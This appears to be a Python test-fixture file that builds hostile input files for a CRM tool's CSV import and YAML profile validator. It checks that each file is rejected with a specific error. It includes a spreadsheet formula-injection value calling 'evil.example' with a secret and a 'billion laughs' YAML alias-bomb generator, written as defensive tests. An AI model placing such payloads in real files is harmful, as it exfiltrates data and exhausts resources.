"""The hostile corpus, round two (issue 26): the other files the project reads.

``preferences import`` files (all or nothing: exit 3 and nothing applied, or exit 0 and
every row applied), outcomes extracts (an id with a line break is quarantined) and extract
profiles (an alias bomb or an oversized profile is refused in well under a second). Same
:class:`~tests.hostile.corpus.FileCase` as the extract cases: the exit code, the one stderr
line, what must never appear in any output.
"""

from __future__ import annotations

import os
from collections.abc import Callable
from pathlib import Path

from tests.hostile.corpus import SECRET, FileCase

PREFS = "crm_preferences.csv"
PREFS_HEADER = "customer_id,unsubscribed,opted_out_types,paused_until,email_language\n"


def good_rows(n: int, start: int = 1) -> str:
    return "".join(f"G{i:05d},true,,,\n" for i in range(start, start + n))


def _prefs(content: bytes | str) -> Callable[[Path], Path]:
    def build(root: Path) -> Path:
        path = root / PREFS
        path.write_bytes(content.encode("utf-8") if isinstance(content, str) else content)
        return path
    return build


def _prefs_fifo(root: Path) -> Path:
    os.mkfifo(root / PREFS)
    return root / PREFS


def _prefs_directory(root: Path) -> Path:
    (root / PREFS).mkdir()
    return root / PREFS


def _prefs_symlink(root: Path) -> Path:
    real = root / "real.csv"
    real.write_text(PREFS_HEADER + good_rows(2), encoding="utf-8")
    (root / PREFS).symlink_to(real)
    return root / PREFS


_HEAD = PREFS_HEADER + good_rows(1)  # line 2 good; the case's row is line 3
_ID = r"line 3: customer_id: "

#: ``preferences import`` cases; ``valid`` is the number of rows applied when accepted.
PREFERENCE_FILES: list[FileCase] = [
    FileCase("prefs_good", _prefs(PREFS_HEADER + good_rows(3) + "G00009,,birthday,2027-01-31,fi\n"), 0, valid=4),
    FileCase("prefs_latin1_after_2000_rows",
             _prefs((PREFS_HEADER + good_rows(2000)).encode() + f"J\u00e9{SECRET},true,,,\n".encode("latin-1")), 3,
             rf"crm_preferences\.csv: not UTF-8 \(byte 0xe9 at offset {len(PREFS_HEADER + good_rows(2000)) + 1}\)"),
    FileCase("prefs_id_crlf", _prefs(_HEAD + f'"{SECRET}\r\nX",true,,,\n'), 3, _ID + r"control characters"),
    FileCase("prefs_id_lf_unquoted_is_two_rows", _prefs(_HEAD + f"{SECRET}\nX,true,,,\n"), 3,
             r"line 3: 1 fields where the header has 5"),
    # 10,000 characters are over the field cap already; 65 are over the id's.
    FileCase("prefs_id_10000", _prefs(_HEAD + SECRET + "J" * 10_000 + ",true,,,\n"), 3,
             r"unreadable as CSV: line 3: a field over 4 KiB"),
    FileCase("prefs_id_65", _prefs(_HEAD + SECRET + "J" * (65 - len(SECRET)) + ",true,,,\n"), 3,
             _ID + r"longer than 64 characters"),
    FileCase("prefs_id_formula", _prefs(_HEAD + f'"=HYPERLINK(""http://evil.example/{SECRET}"")",true,,,\n'), 3,
             _ID + r"starts like a spreadsheet formula"),
    FileCase("prefs_id_plus", _prefs(_HEAD + f"+{SECRET},true,,,\n"), 3, _ID + r"starts like a spreadsheet formula"),
    FileCase("prefs_id_bidi", _prefs(_HEAD + f"\u202e{SECRET},true,,,\n"), 3, _ID + r"control characters"),
    FileCase("prefs_id_nul", _prefs(_HEAD + f"{SECRET}\x00,true,,,\n"), 3, _ID + r"control characters"),
    FileCase("prefs_id_blank", _prefs(_HEAD + " ,true,,,\n"), 3, _ID + r"blank"),
    FileCase("prefs_id_missing", _prefs(_HEAD + ",true,,,\n"), 3, _ID + r"missing"),
    FileCase("prefs_field_200kb", _prefs(_HEAD + f"G7,true,{SECRET}{'x' * 200_000},,\n"), 3,
             r"unreadable as CSV: line 3: a field over 4 KiB"),
    FileCase("prefs_unclosed_quote", _prefs(_HEAD + f'"{SECRET},true,,,\nF010,true,,,\n'), 3,
             r"unreadable as CSV: line 3: an unterminated quoted field"),
    FileCase("prefs_bad_value_among_good", _prefs(_HEAD + good_rows(50, 10) + "G00099,maybe,,,\n"), 3,
             r"1 bad row\(s\), nothing applied: line 53: unsubscribed: not valid"),
    FileCase("prefs_many_bad_rows", _prefs(_HEAD + "".join(f"=B{i},true,,,\n" for i in range(9))), 3,
             r"9 bad row\(s\), nothing applied: line 3: .* \(and 4 more\)$"),
    FileCase("prefs_directory", _prefs_directory, 3, r"is a directory, not a regular file"),
    FileCase("prefs_fifo", _prefs_fifo, 3, r"is a FIFO, not a regular file", max_seconds=5),
    FileCase("prefs_symlink", _prefs_symlink, 3, r"is a symbolic link; refused"),
    FileCase("prefs_empty", _prefs(b""), 3, r"empty file"),
    FileCase("prefs_header_only", _prefs(PREFS_HEADER), 3, r"no data rows"),
    FileCase("prefs_no_id_column", _prefs("id,unsubscribed\nG1,true\n"), 3, r"missing required column\(s\): customer_id"),
    FileCase("prefs_utf16", _prefs(b"\xff\xfe" + (PREFS_HEADER + good_rows(1)).encode("utf-16-le")), 3,
             r"encoded as UTF-16 \(little endian\)"),
    FileCase("prefs_binary", _prefs(b"PK\x03\x04" + bytes(512)), 3, r"NUL byte at offset 4"),
    FileCase("prefs_ragged", _prefs(_HEAD + f"{SECRET},true\n"), 3, r"line 3: 2 fields where the header has 5"),
]


OUTCOMES = "outcomes_2026-11-22.csv"


def _outcomes(rows: str) -> Callable[[Path], Path]:
    def build(root: Path) -> Path:
        (root / OUTCOMES).write_text("customer_id,outcome,occurred_at,value\n" + rows, encoding="utf-8", newline="")
        return root / OUTCOMES
    return build


#: ``outcomes load`` cases: ``quarantined``/``valid`` rows when accepted.
OUTCOME_FILES: list[FileCase] = [
    FileCase("outcomes_id_crlf", _outcomes('C1,purchase,2026-11-22T10:00Z,5\n"C2\r\nX",purchase,2026-11-22T10:00Z,5\n'
                                           f"\u202e{SECRET},purchase,2026-11-22T10:00Z,5\nC4,purchase,2026-11-22T11:00Z,\n"),
             0, quarantined=2, valid=2),
    FileCase("outcomes_fifo", lambda root: (os.mkfifo(root / OUTCOMES), root / OUTCOMES)[1], 3,
             r"is a FIFO, not a regular file", max_seconds=5),
]


def _profile(text: str | bytes) -> Callable[[Path], Path]:
    def build(root: Path) -> Path:
        path = root / "hostile.yaml"
        path.write_bytes(text.encode() if isinstance(text, str) else text)
        return path
    return build


def alias_bomb(levels: int = 10, width: int = 9) -> str:
    """A "billion laughs" profile: ``width`` aliases per level, ``levels`` deep (550 bytes at 8 levels)."""
    lines = ["name: bomb", f'a0: &a0 ["{SECRET}"]']
    for level in range(1, levels + 1):
        lines.append(f"a{level}: &a{level} [" + ", ".join([f"*a{level - 1}"] * width) + "]")
    return "\n".join(lines) + "\ncolumns: {}\n"


#: Profiles given to ``validate --profile PATH`` (the extract is a good one).
PROFILE_FILES: list[FileCase] = [
    FileCase("profile_alias_bomb_8", _profile(alias_bomb(8)), 3, r"more than 20 YAML aliases \(line 5\)",
             max_seconds=5),
    FileCase("profile_alias_bomb_10", _profile(alias_bomb(10)), 3, r"more than 20 YAML aliases", max_seconds=5),
    FileCase("profile_oversized", _profile("name: big\n" + f"# {SECRET}{'x' * 300_000}\n"), 3,
             r"hostile\.yaml: 300\d+ bytes; a profile may have at most 262144", max_seconds=5),
    FileCase("profile_latin1", _profile(f"name: caf\u00e9 # {SECRET}\n".encode("latin-1")), 3,
             r"hostile\.yaml: not UTF-8 \(byte 0xe9 at offset 9\)"),
]
